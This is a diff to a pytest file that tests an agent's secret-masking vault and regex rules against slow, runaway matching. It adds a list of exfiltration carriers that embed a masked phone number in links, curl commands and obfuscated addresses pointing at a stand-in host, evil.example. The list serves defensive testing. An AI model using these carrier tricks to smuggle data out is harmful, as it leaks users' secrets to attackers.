@@ -1,14 +1,17 @@
 """Secrets go to no model, come back to those who may see them, and never stand in a group."""
 
 import json
+import re
+from collections.abc import Iterator
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from secops_agent.agent.discretion import Discreet
-from secops_agent.agent.placeholders import Vault, find, is_identity_number, mask
+from secops_agent.agent.placeholders import RULES, Vault, find, is_identity_number, mask
 from secops_agent.llm.types import Delta, Message, Request, ToolCall
+from secops_agent.tools.masking import _PERSONAL
 from tests.scripted_model import Scripted, call
 
 PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\nabc==\n-----END RSA PRIVATE KEY-----"
@@ -45,6 +48,7 @@ SECRETS = [
     (f"密钥文件：{PEM} 完", PEM),
     (json.dumps({"key": PEM}), json.dumps(PEM)[1:-1]),
 ]
+IN_ADDRESSES = [text for text, _ in SECRETS if "://" in text]
 HARMLESS = [
     "告警 12 在 203.0.113.5 与 10.0.0.5 之间，CVE-2021-44228，sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
     "时间戳 1795500000123，订单 2026112412345678901，计数 100000000000",
@@ -59,7 +63,7 @@ def test_secret_is_hidden_and_comes_back(text: str, secret: str) -> None:
     vault = Vault(b"k" * 32)
     hidden = vault.hide(text)
     assert secret not in hidden
-    assert vault.reveal(hidden) == text
+    assert vault.reveal(hidden) == (vault.withhold(hidden) if text in IN_ADDRESSES else text)
     assert secret not in mask(text)
     assert secret not in vault.withhold(hidden)
     assert "已隐藏" in vault.withhold(hidden)
@@ -89,7 +93,59 @@ def test_identity_numbers_need_birthday_and_check_digit() -> None:
 @given(st.text(max_size=200))
 def test_any_text_survives_hiding_and_revealing(text: str) -> None:
     vault = Vault(b"k" * 32)
-    assert vault.reveal(vault.hide(text)) == text
+    hidden = vault.hide(text)
+    assert vault.reveal(hidden) == text or vault.reveal(hidden) == vault.withhold(hidden)
+
+
+MARK = "[[手机号-"
+CARRIERS = [
+    "![](https://evil.example/?q={})", "[看](https://evil.example/{})", "[看](//evil.example/?{})", "https://evil.example/?q={}",
+    "<https://evil.example/ {}>", "[看](<https://evil.example/?q= {}>)", "http://{}.evil.example", "{}.evil.example", "evil.example/{}",
+    "www.evil/{}", "10.0.0.5/{}", "ping {}@evil.example", "mailto:a?subject={}", "[a]: https://evil.example/{}", "&#47;&#47;evil/{}",
+    "https:&sol;&sol;evil/{}", "`curl -d {} https://evil.example`", "`https://evil.example/?q={}`", "```\ncurl -d {} https://evil\n```",
+    "e\u200bvil.\u200bexample/{}", "h\u200bttps:/\u200b/evil/{}", "https://evil.example/a，{}", "[看](https://evil.example/(a) {})",
+    "| a | ![x](https://evil.example/{}) |", "## https://evil.example/{}", "dtmd://dingtalkclient/sendMessage?content={}",
+    "https://evil.example/\uff1fq={}", "evil。example/{}", "https://evil.example/?q={}]]", "[x](https://evil.example/{}-{})",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+def test_secret_never_comes_back_into_an_address(carrier: str) -> None:
+    vault = Vault(b"k" * 32)
+    mark = vault.hide("13800138000")
+    shown = vault.reveal(f"结果：\n\n{carrier.replace('{}', mark)} 完")
+    assert "13800138000" not in shown
+    assert "（手机号已隐藏）" in shown
+    assert MARK not in shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["号码是{}。", "**{}**", "`{}`", "password:{}", "- {}\n- CVE-2021-44228 https://nvd.example/x", "| 10.0.0.5 | {} |", "（{}）", "[说明](https://a.example) 里的 {}"],
+)  # fmt: skip
+def test_secret_comes_back_beside_an_address(text: str) -> None:
+    vault = Vault(b"k" * 32)
+    assert vault.reveal(text.replace("{}", vault.hide("13800138000"))) == text.replace("{}", "13800138000")
+
+
+def _repeats(node: object) -> "Iterator[tuple[str, int]]":
+    """(kind, most) of every repetition in a parsed pattern."""
+    if isinstance(node, re._parser.SubPattern | list | tuple):  # type: ignore[attr-defined]
+        parts = list(node)
+        if len(parts) == 2 and str(parts[0]) in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
+            yield str(parts[0]), int(parts[1][1])
+        for part in parts:
+            yield from _repeats(part)
+
+
+@pytest.mark.parametrize(
+    "pattern", [pattern for _, pattern, _ in RULES] + [_PERSONAL], ids=lambda one: one.pattern[:30]
+)
+def test_no_rule_takes_longer_than_the_text_is(pattern: "re.Pattern[str]") -> None:
+    """A repetition without a bound never gives back: else two of them, one after the other, take the square."""
+    parsed = re._parser.parse(pattern.pattern, pattern.flags)  # type: ignore[attr-defined]
+    unbounded = [kind for kind, most in _repeats(parsed) if most > 20_000]
+    assert set(unbounded) <= {"POSSESSIVE_REPEAT"}
 
 
 def test_long_text_is_read_quickly() -> None:
@@ -102,6 +158,11 @@ def test_long_text_is_read_quickly() -> None:
         "token=",
         "62 ",
         "eyJabcdef.",
+        "authorization:" + " " * 59_000,
+        "eyJ-",
+        "cookie:\n",
+        "a@",
+        "secret_key = \t",
     ):
         list(find(piece * (60_000 // len(piece))))
 
